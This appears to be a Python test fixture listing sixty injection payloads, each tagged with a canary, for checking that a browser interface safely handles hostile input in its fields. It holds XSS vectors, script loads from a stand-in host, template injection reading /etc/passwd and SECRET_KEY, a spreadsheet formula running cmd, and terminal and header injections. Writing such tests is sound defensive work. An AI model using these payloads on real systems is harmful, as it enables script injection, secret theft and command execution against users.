"""Sixty things an agent, or whoever wrote to it, might put into a field, by what they try to get out of.

Each is short, so that it fits every field, and each that runs something calls `alert` or asks for an
address with the word that `watched.py` looks for.
"""

from tests.browser.hostile import MARK

HTML = (
    f"<script>alert('{MARK}')</script>",
    f"<ScRiPt src=/{MARK}></sCrIpT>",
    f"<script/src=//{MARK}.example/x.js>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"--></textarea></title></style></script><script>alert('{MARK}')</script>",
    f"<img src=/{MARK} onerror=alert('{MARK}')>",
    f"<img/src=x/onerror=alert('{MARK}')//",
    f"<body onload=alert('{MARK}')>",
    f"<iframe srcdoc='<script>parent.alert(\"{MARK}\")</script>' src=/{MARK}></iframe>",
    f"<object data=/{MARK}></object><embed src=/{MARK}>",
    f"<details open ontoggle=alert('{MARK}')><summary>x</summary></details>",
    f"<video autoplay onplay=alert('{MARK}')><source src=/{MARK} onerror=alert('{MARK}')></video>",
    f"<input autofocus onfocus=alert('{MARK}') data-key=a>",
    f"</form><form action=/{MARK} method=post><button data-key=a autofocus>Approve</button>",
    f"<base href=//{MARK}.example/><link rel=stylesheet href=/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=/{MARK}'>",
    f"<dialog open id=x><form method=dialog action=/{MARK}><button autofocus>OK</button></form></dialog>",
    f"<template shadowrootmode=open><script>alert('{MARK}')</script></template>",
    f"<noscript><p title='</noscript><img src=/{MARK} onerror=alert(1)>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/{MARK} onerror=alert(1)&gt;'>",
)
SVG = (
    f"<svg onload=alert('{MARK}')>",
    f"<svg><use href='/{MARK}#x'></use></svg>",
    f"<svg><script href=/{MARK} /></svg>",
    f"<svg><a xlink:href=javascript:alert('{MARK}')><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=/{MARK} onerror=alert('{MARK}')></foreignObject></svg>",
    f"<svg><style>@import '/{MARK}';</style></svg>",
)
LINKS = (
    f"[click](javascript:alert('{MARK}'))",
    f"![x](/{MARK} \"onerror=alert('{MARK}')\")",
    f"<javascript:alert('{MARK}')>",
    f"[x]: data:text/html,<script>alert('{MARK}')</script>",
    f"javascript:alert('{MARK}')//https://example.org",
    f"JaVaScRiPt&colon;alert('{MARK}')",
    f"java\tscript:alert('{MARK}')",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgn{MARK}",
    f"https://bank.example@{MARK}.example/login",
    f"`</code><img src=/{MARK} onerror=alert(1)>`",
)
JSON = (
    f'{{"__proto__":{{"x":"<img src=/{MARK}>"}}}}',
    f'</script><script>alert(\'{MARK}\')</script>","a":"',
    f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
    f"\u2028alert('{MARK}')\u2029",
)
ATTRIBUTES = (
    f"\" autofocus onfocus=alert('{MARK}') data-key=\"a",
    f"' onmouseover='alert(\"{MARK}\")' style='position:fixed;inset:0'",
    f"x onpointerenter=alert('{MARK}') tabindex=0",
    f"\"><img src=/{MARK} onerror=alert('{MARK}')>",
    f"&quot;&gt;&lt;img src=/{MARK} onerror=alert(1)&gt;",
    f"<div hx-get=/{MARK} hx-trigger='load, every 1s' hx-target=body>x</div>",
    f"<i hx-on:load=alert('{MARK}') hx-on::after:init=alert('{MARK}') hx-post=/{MARK} hx-trigger=tick data-live=0>",
    f"<hx-partial hx-target='#decide' hx-swap=outerHTML><img src=/{MARK}></hx-partial>",
)
CSS = (
    f"<style>@import '/{MARK}'; * {{ display: none !important }}</style>",
    f'<p style="background:url(/{MARK});position:fixed;inset:0">x',
    f"}}</style><style>body{{background:url(//{MARK}.example)}}",
)
TEMPLATES = (
    f"{{% include '/etc/passwd' %}}{{{{ settings.SECRET_KEY }}}}{{{{constructor.constructor('alert(1)')()}}}}${{alert('{MARK}')}}",
    f"{{{{request.user.password}}}}{{% csrf_token %}}{{% load static %}}{MARK}",
    f"%(password)s %s {{0}} {{settings}} {MARK}",
)
BIDI = (
    f"\u202e{MARK}\u2066gnp.exe\u2069 \u200bzero\ufeff \U000e0041",
    f"a\u2067b\u061cc\u200ed\u00ade{MARK}",
)
TERMINAL = (
    f"\x1b]8;;http://{MARK}\x07link\x1b]8;;\x07\x1b[2J\x1b[31mred",
    f"\x08\x08\x08{MARK}\r\nX-Injected: yes\r\n\r\n\x7f",
)
SPREADSHEETS = (
    f'=HYPERLINK("http://{MARK}.example","x")',
    f"@SUM(1+1)*cmd|' /C calc'!A0{MARK}",
)

PAYLOADS = (
    *HTML,
    *SVG,
    *LINKS,
    *JSON,
    *ATTRIBUTES,
    *CSS,
    *TEMPLATES,
    *BIDI,
    *TERMINAL,
    *SPREADSHEETS,
)
assert len(set(PAYLOADS)) == 60
